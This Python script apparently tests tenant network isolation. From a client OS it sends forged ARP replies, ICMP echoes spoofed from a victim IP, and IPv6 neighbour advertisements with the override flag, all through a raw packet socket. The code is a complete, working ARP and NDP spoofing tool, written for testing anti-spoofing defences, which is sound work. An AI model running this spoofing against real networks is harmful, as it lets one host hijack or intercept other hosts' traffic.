#!/usr/bin/env python3
"""Claim another host's addresses from inside a client OS, as a hostile
tenant would: raw frames through an AF_PACKET socket on its own interface,
always from its own MAC (the source-MAC check is not what is tested).

    spoof.py IFACE MY_MAC VICTIM_IP SECONDS [VICTIM_LL6]

Every 50 ms: a broadcast ARP reply "VICTIM_IP is at MY_MAC", an ICMP echo
request to 10.77.0.1 from VICTIM_IP, and with VICTIM_LL6 an unsolicited
neighbour advertisement for it (from its own link-local address) plus an
ICMPv6 echo from it.  Prints how
many frames of each kind the kernel accepted."""
import socket
import struct
import sys
import time


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def arp_reply(me, ip):
    bc = b"\xff" * 6
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + me + ip + bc + ip
    return bc + me + b"\x08\x06" + body


def icmp_echo(me, src, dst_mac, seq):
    icmp = struct.pack("!BBHHH", 8, 0, 0, 0x5150, seq) + b"spoofed"
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), seq, 0, 64, 1, 0, src,
                      socket.inet_aton("10.77.0.1"))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return dst_mac + me + b"\x08\x00" + hdr + icmp


def icmp6(me, src, dst, dst_mac, body):
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + src + dst
    return dst_mac + me + b"\x86\xdd" + ip + body


def main():
    if len(sys.argv) not in (5, 6):
        raise SystemExit(__doc__)
    iface, me, victim, secs = sys.argv[1:5]
    me = mac(me)
    vip = socket.inet_aton(victim)
    ll6 = socket.inet_pton(socket.AF_INET6, sys.argv[5]) if len(sys.argv) == 6 else None
    all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")
    own_ll = b"\xfe\x80" + bytes(6) + bytes([me[0] ^ 2]) + me[1:3] + b"\xff\xfe" + me[3:]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = {"arp": 0, "ip": 0, "na": 0, "ip6": 0}
    end = time.monotonic() + float(secs)
    seq = 0
    while time.monotonic() < end:
        seq = (seq + 1) & 0xFFFF
        sent["arp"] += s.send(arp_reply(me, vip)) > 0
        sent["ip"] += s.send(icmp_echo(me, vip, b"\xff" * 6, seq)) > 0
        if ll6:
            # Neighbour advertisement, override flag, target = the victim,
            # with its target link-layer address option saying "at me".
            # It is sent from its own link-local address, so only the
            # claim inside the advertisement is a lie.
            na = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ll6 + b"\x02\x01" + me
            sent["na"] += s.send(icmp6(me, own_ll, all_nodes, b"\x33\x33\x00\x00\x00\x01", na)) > 0
            echo = struct.pack("!BBHHH", 128, 0, 0, 0x5150, seq)
            sent["ip6"] += s.send(icmp6(me, ll6, all_nodes, b"\x33\x33\x00\x00\x00\x01", echo)) > 0
        time.sleep(0.05)
    print(" ".join(f"{k}={v}" for k, v in sent.items()))


main()
